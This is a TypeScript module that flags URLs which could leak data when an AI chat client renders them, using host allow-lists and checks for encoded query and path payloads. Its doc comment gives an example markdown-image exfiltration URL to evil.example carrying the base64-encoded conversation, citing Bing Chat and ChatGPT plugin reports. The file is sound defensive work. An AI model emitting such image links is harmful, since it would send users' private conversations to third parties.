import { shannonEntropy } from '../secrets/entropy.js';

export type RiskReason = 'host_not_allowed' | 'data_in_query' | 'data_in_path' | 'non_https' | 'ip_literal' | 'userinfo';

export interface RiskOptions {
  /** Exact hosts, or `*.example.com` for any subdomain of example.com (not example.com itself). */
  readonly allowHosts: readonly string[];
}

export interface Risk {
  readonly risky: boolean;
  readonly reasons: RiskReason[];
}

/**
 * Thresholds for "this URL carries data". The exfiltration channel (an image the client renders
 * automatically, e.g. `![](https://evil.example/p?q=<base64 of the conversation>)`, as in the
 * Bing Chat / ChatGPT plugin markdown-image exfiltration reports) needs room for the payload: a
 * long value, a value that looks encoded, or many parameters each carrying a piece.
 */
const LONG_VALUE_CHARS = 64;
const ENCODED_MIN_CHARS = 24;
const ENCODED_MIN_ENTROPY = 3.8;
const MAX_PARAMS = 8;
const LONG_QUERY_CHARS = 256;
const LONG_SEGMENT_CHARS = 64;

const RELATIVE_BASE = 'https://relative.invalid/';

/** Base64/base64url/hex-ish and random-looking: what an encoded payload looks like. */
function looksEncoded(value: string): boolean {
  if (value.length < ENCODED_MIN_CHARS) return false;
  if (!/^[A-Za-z0-9+/=_%.-]+$/.test(value)) return false;
  return shannonEntropy(value) >= ENCODED_MIN_ENTROPY || /^[0-9a-f]{32,}$/i.test(value);
}

function decodeLoose(s: string): string {
  try {
    return decodeURIComponent(s);
  } catch {
    return s;
  }
}

export function hostAllowed(host: string, allowHosts: readonly string[]): boolean {
  const h = host.toLowerCase().replace(/\.$/, '');
  return allowHosts.some((pattern) => {
    const p = pattern.toLowerCase();
    return p.startsWith('*.') ? h.endsWith(p.slice(1)) && h.length > p.length - 1 : h === p;
  });
}

function parse(url: string): URL | undefined {
  const trimmed = url.trim();
  // A markdown "www.x.org" has no scheme; a renderer links it as http(s).
  const candidate = /^www\./i.test(trimmed) ? `http://${trimmed}` : trimmed;
  try {
    return new URL(candidate, RELATIVE_BASE);
  } catch {
    return undefined;
  }
}

/**
 * Why following or rendering `url` could leak data to a third party. Relative URLs resolve to
 * the page that shows the answer, so they carry no risk. A URL is risky if any reason other than
 * the data_* ones applies (these alone, on an allowed host, are normal signed/CDN URLs; they are
 * still reported so a policy can be stricter).
 */
export function exfiltrationRisk(url: string, options: RiskOptions): Risk {
  const u = parse(url);
  if (u === undefined) return { risky: true, reasons: ['non_https'] }; // unparseable: do not render
  if (u.origin === new URL(RELATIVE_BASE).origin && !/^[a-z][a-z0-9+.-]*:|^\/\//i.test(url.trim())) {
    return { risky: false, reasons: [] };
  }
  const reasons: RiskReason[] = [];
  if (u.protocol !== 'https:') reasons.push('non_https');
  if (u.protocol === 'http:' || u.protocol === 'https:') {
    if (!hostAllowed(u.hostname, options.allowHosts)) reasons.push('host_not_allowed');
    // WHATWG URL canonicalizes 0x7f.1, 2130706433 etc. to dotted IPv4; IPv6 keeps brackets.
    if (/^\d{1,3}(?:\.\d{1,3}){3}$/.test(u.hostname) || u.hostname.startsWith('[')) reasons.push('ip_literal');
    if (u.username !== '' || u.password !== '') reasons.push('userinfo');
    if (queryCarriesData(u)) reasons.push('data_in_query');
    if (pathCarriesData(u)) reasons.push('data_in_path');
  }
  const risky = reasons.some((r) => r !== 'data_in_query' && r !== 'data_in_path');
  return { risky, reasons };
}

function queryCarriesData(u: URL): boolean {
  const query = u.search.slice(1);
  if (query === '') return false;
  if (query.length > LONG_QUERY_CHARS) return true;
  const params = query.split('&');
  if (params.length > MAX_PARAMS) return true;
  return params.some((p) => {
    const value = decodeLoose(p.slice(p.indexOf('=') + 1));
    return value.length > LONG_VALUE_CHARS || looksEncoded(value);
  });
}

function pathCarriesData(u: URL): boolean {
  return u.pathname.split('/').some((seg) => {
    const s = decodeLoose(seg);
    return s.length > LONG_SEGMENT_CHARS || looksEncoded(s.replace(/\.(?:png|jpe?g|gif|svg|webp|ico)$/i, ''));
  });
}
